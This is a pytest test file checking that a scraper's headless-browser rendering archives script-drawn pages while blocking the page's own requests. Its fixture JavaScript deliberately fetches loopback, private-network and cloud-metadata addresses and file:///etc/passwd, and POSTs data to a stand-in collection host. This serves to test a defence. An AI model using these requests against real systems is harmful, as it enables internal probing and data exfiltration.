"""Pages drawn by script: without a browser a miss in words, with one the page as drawn, and no way past the guard."""

from __future__ import annotations

import importlib.util
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from scrapers.archive.reading import read_response

from .loopback_web import Desk, Reply, Web, page, serve

pytestmark = pytest.mark.slow
HOST = "http://drawn.example.com"
LIST = """<!DOCTYPE html><html><head><title>News</title><link rel="stylesheet" href="/style.css">
<script src="/app.js"></script></head><body><ul id="list"></ul><img src="http://pictures.example.com/a.png">
<img src="/b.png"><script>window.onload = draw;</script></body></html>"""
SCRIPT = """
async function draw() {
  const quietly = (address, how) => fetch(address, how).catch(() => null);
  for (const bad of ['http://127.0.0.1:PORT/inward', 'http://10.0.0.1/', 'http://[::1]/', 'http://169.254.169.254/latest/',
                     'http://localhost/x', 'file:///etc/passwd', '/moved'])
    await quietly(bad);
  await quietly('http://other.example.com/collect', {method: 'POST', body: 'all I know'});
  try { new WebSocket('ws://127.0.0.1:PORT/socket'); } catch (e) {}
  const rows = await (await fetch('/rows.json')).json();
  for (const row of rows) {
    const item = document.createElement('li');
    item.innerHTML = `<a href="/a/${row.id}">${row.title}</a> <time datetime="${row.at}"></time>`;
    document.getElementById('list').append(item);
  }
}
"""
ROWS = b'[{"id": 7, "title": "Drawn by script", "at": "2026-03-10T09:00:00+09:00"}]'


@pytest.fixture
def web() -> Iterator[Web]:
    with serve() as running:
        yield running


@pytest.fixture
def desk(tmp_path: Path, web: Web) -> Desk:
    desk = Desk(tmp_path, {"DESK_CRAWL_PROXY": web.proxy})
    desk.add_source(
        "drawn",
        feeds=[],
        needs_browser=True,
        listings=[{"url": f"{HOST}/news", "link_pattern": r"/a/\d+$", "row": "li"}],
    )
    port = web.proxy.rsplit(":", 1)[1]
    web.pages[f"{HOST}/news"] = Reply(LIST.encode())
    web.pages[f"{HOST}/app.js"] = Reply(
        SCRIPT.replace("PORT", port).encode(), headers=(("Content-Type", "text/javascript"),)
    )
    web.pages[f"{HOST}/rows.json"] = Reply(ROWS, headers=(("Content-Type", "application/json"),))
    web.pages[f"{HOST}/moved"] = Reply(b"", 302, (("Location", "http://10.0.0.1/"),))
    web.pages[f"{HOST}/a/7"] = Reply(page("Drawn by script"))
    return desk


def test_without_a_browser_the_source_is_not_asked_and_says_why(web: Web, desk: Desk) -> None:
    desk.crawl(fetch=True)
    [capture] = desk.captures()
    assert (capture.outcome, capture.fault) == ("not_asked", "not_asked")
    assert "no browser is switched on (DESK_CRAWL_BROWSER)" in capture.detail
    assert web.asked == []


def test_a_browser_that_is_not_there_is_said(web: Web, desk: Desk) -> None:
    desk.environment |= {"DESK_CRAWL_BROWSER": "true", "DESK_CRAWL_BROWSER_PATH": "/nowhere/chromium"}
    desk.crawl(fetch=True)
    [capture] = desk.captures()
    assert capture.outcome == "not_asked"
    assert "browser" in capture.detail


def test_a_drawn_page_is_read_and_archived_and_nothing_escapes(web: Web, desk: Desk) -> None:
    path = shutil.which("chromium") or shutil.which("chromium-browser")
    if path is None or importlib.util.find_spec("playwright") is None:
        pytest.skip("no Chromium here, or the extra browser is not installed")
    desk.environment |= {"DESK_CRAWL_BROWSER": "true", "DESK_CRAWL_BROWSER_PATH": path}
    desk.crawl(fetch=True)
    listing = desk.capture_of(f"{HOST}/news")
    assert (listing.outcome, listing.status, listing.detail) == ("fetched", 200, "")
    assert listing.warc_file is not None
    assert listing.warc_offset is not None
    stored = read_response(desk.home.absolute(listing.warc_file), listing.warc_offset)
    told = dict(stored.headers)["X-Desk-Rendered"]
    assert told.startswith("chromium ")
    assert b'<a href="/a/7">Drawn by script</a>' in stored.body
    article = desk.capture_of(f"{HOST}/a/7")
    assert (article.outcome, article.status) == ("fetched", 200)
    # Asked for: robots.txt and what the page is drawn from; no picture, no style, nothing inward, no other host.
    asked = [address.replace(HOST, "") for address, _ in web.asked]
    assert sorted(asked) == ["/a/7", "/app.js", "/moved", "/news", "/robots.txt", "/rows.json"]
    before = len(web.asked)
    desk.crawl(fetch=False)
    assert len(web.asked) == before
